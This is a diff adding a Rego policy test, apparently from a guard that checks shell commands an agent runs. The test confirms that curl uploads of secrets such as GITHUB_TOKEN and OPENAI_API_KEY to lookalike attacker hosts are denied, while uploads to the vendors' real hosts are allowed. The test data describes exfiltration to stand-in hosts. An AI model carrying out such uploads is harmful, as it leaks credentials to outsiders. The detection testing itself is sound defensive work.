@@ -488,6 +488,27 @@ test_secret_sent_to_its_vendor_quiet if {
 	}
 }
 
+# The vendor word only in a subdomain, or in a label before somebody else's domain, is not the
+# vendor's host; the vendor's own subdomains and second-level country domains are.
+test_secret_sent_to_a_host_merely_naming_the_vendor_denied if {
+	every u in [
+		sent_up("curl", "https://npm-stats.example.io/c", "NPM_TOKEN"),
+		sent_up("curl", "https://github.attacker.example/x", "GITHUB_TOKEN"),
+		sent_up("curl", "https://api.openai.com.evil.example/v1", "OPENAI_API_KEY"),
+		sent_up("curl", "https://amazonaws.collector.example.co.uk/k", "AWS_SECRET_ACCESS_KEY"),
+	] {
+		shell_ids({"uploads": [u]})["shell/secret-sent"] == "deny"
+	}
+	every u in [
+		sent_up("curl", "https://registry.npmjs.org/-/whoami", "NPM_TOKEN"),
+		sent_up("curl", "https://o1.ingest.sentry.io/api/1/store/", "SENTRY_DSN_TOKEN"),
+		sent_up("curl", "https://uploads.github.com/repos/o/r/releases/1/assets", "GITHUB_TOKEN"),
+		sent_up("curl", "https://api.stripe.co.uk/v1", "STRIPE_SECRET_KEY"),
+	] {
+		count(shell_ids({"uploads": [u]})) == 0
+	}
+}
+
 test_secret_without_vendor_in_header_quiet if {
 	u := {"program": "curl", "target": "https://app.example.com/api", "source": "<sent header secret BOT_AUTH_TOKEN>", "evidence": "curl -H x"}
 	count(shell_ids({"uploads": [u]})) == 0
